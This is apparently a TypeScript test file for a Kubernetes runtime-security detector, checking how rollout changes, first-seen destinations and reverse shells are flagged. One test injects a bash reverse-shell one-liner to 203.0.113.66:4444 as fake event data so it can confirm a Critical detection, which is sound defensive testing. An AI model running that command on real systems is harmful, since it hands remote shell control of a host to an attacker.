import type { Event } from "@bailiff/proto";
import { expect, test } from "vitest";
import { Destinations } from "../../../destinations/destinations.ts";
import { finished } from "../../../pipeline/custody-grounds.ts";
import { Pipeline } from "../../../pipeline/pipeline.ts";
import { corpusObjects, directory, pipeline, policyFor, verdictsOn } from "../../../testing/engine.ts";
import { delayed } from "../../../testing/random.ts";
import { recorded, trainingSessions } from "../../../testing/recordings.ts";

const rollout = recorded("dev-benign-2-rollout");
const changes = (events: readonly Event[], policies: Parameters<typeof policyFor>[1][] = []) =>
  verdictsOn(events, { policies: policies.map((spec) => policyFor("support", spec)) }).flatMap(({ spec }) =>
    spec.findings
      .filter(({ rule }) => rule === "rollout-change")
      .map((finding) => ({ ...finding, pod: spec.pod.name })),
  );

test("all that a new image does anew is one Low finding for the agent, which lists it, and no other is about habits", () => {
  const [finding, ...rest] = changes(rollout);
  expect(rest).toEqual([]);
  expect(finding).toMatchObject({ severity: "Low", gate: "Novelty" });
  expect(finding?.message).toMatch(/^since the rollout of sha256:.*: .*python to 203\.0\.113\.45:443/);
  const verdict = verdictsOn(rollout).find(({ spec }) => spec.pod.name === finding?.pod);
  expect(verdict?.spec).toMatchObject({ severity: "Low", recommendation: "None" });
  const ofAgent = verdictsOn(rollout).filter(({ spec }) => spec.agent.name === "deployment/support-bot");
  expect(ofAgent.flatMap(({ spec }) => spec.findings).map(({ rule }) => rule)).not.toContain("first-seen-destination");
});

test("it is on the same pod, and lists the same, in whatever order events arrive", () => {
  const wanted = changes(rollout).map(({ pod, message }) => [pod, message]);
  for (const seed of [1, 2, 3])
    expect(changes(delayed(rollout, 30, seed)).map(({ pod, message }) => [pod, message])).toEqual(wanted);
});

test("a policy may disable it", () => {
  expect(changes(rollout, [{ rules: { disabled: ["rollout-change"] } }])).toEqual([]);
});

test("a deterministic rule fires in a rollout as ever", () => {
  const events = recorded("dev-attack-1").map((event) => event);
  const fresh = verdictsOn(events).flatMap(({ spec }) => spec.findings.map(({ rule }) => rule));
  expect(fresh).toContain("reverse-shell");
  const attacked = rollout.map((event) =>
    event.type === "exec" && event.process.pod?.workload === "support-bot"
      ? {
          ...event,
          process: {
            ...event.process,
            binary: "/usr/bin/bash",
            arguments: "-c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
          },
        }
      : event,
  );
  const found = verdictsOn(attacked).flatMap(({ spec }) => spec.findings);
  expect(found.filter(({ rule }) => rule === "reverse-shell").map(({ severity }) => severity)).toContain("Critical");
});

/** What is said of the recorded rollout by rules about habits, had its pods had these labels and this image. */
function told(as: { readonly hash: string; readonly hasNewImage: boolean }): string[] {
  const objects = corpusObjects();
  const before = objects.find(({ kind, metadata }) => kind === "Pod" && hashOf(metadata) === "6c9f7b8d54");
  const image = JSON.stringify(before).match(/support-bot[^"]{0,40}@(sha256:[0-9a-f]{64})/)?.[1] ?? "";
  const rolled = objects.map((object) => {
    if (object["kind"] !== "Pod" || hashOf(object["metadata"]) !== "7d8c5f9b6d") return object;
    const text = JSON.stringify(object).replaceAll("support-bot-7d8c5f9b6d", `support-bot-${as.hash}`);
    const renamed = text.replaceAll('"pod-template-hash":"7d8c5f9b6d"', `"pod-template-hash":"${as.hash}"`);
    return JSON.parse(as.hasNewImage ? renamed : renamed.replaceAll(/sha256:[0-9a-f]{64}/g, image)) as typeof object;
  });
  expect(image).toMatch(/^sha256:/);
  const learner = new Pipeline({ ...directory(rolled), policies: [] });
  for (const session of trainingSessions) {
    learner.nextRecording();
    for (const event of recorded(session)) learner.learn(event);
  }
  learner.finishLearning();
  for (const event of rollout) learner.take(event);
  return learner
    .verdicts()
    .filter(({ spec }) => spec.agent.name === "deployment/support-bot")
    .flatMap(({ spec }) => spec.findings.map(({ rule, severity, message }) => `${severity} ${rule}: ${message}`))
    .filter((text) => /rollout|first-seen/.test(text));
}
const hashOf = (metadata: unknown): string | undefined =>
  (metadata as { labels?: Record<string, string> }).labels?.["pod-template-hash"];

test("a new pod template of the same image is a rollout too, and is named", () => {
  const found = told({ hash: "7d8c5f9b6d", hasNewImage: false });
  expect(found).toEqual([expect.stringMatching(/^Low rollout-change: .*, template 7d8c5f9b6d, .*203\.0\.113\.45:443/)]);
});

test("the same without a rollout is each pod's own finding, and says so", () => {
  const found = told({ hash: "6c9f7b8d54", hasNewImage: false });
  const drift = expect.stringMatching(/first-seen-destination: .*203\.0\.113\.45:443.*no rollout explains it/);
  expect(found).toEqual([drift, drift]);
});

test("the same new place weighs more bits without a rollout than under one", () => {
  const engine = pipeline();
  const known = engine.baselines.get("support/deployment/support-bot")?.expectations(finished).get("server");
  const place = new Destinations().resolve("203.0.113.45", 443, "TCP", 1);
  const bits = (isRollout: boolean): number =>
    known?.connectSurprise("/usr/local/bin/python", place, isRollout).bits ?? 0;
  expect(bits(false)).toBeGreaterThan(bits(true) + 2);
});
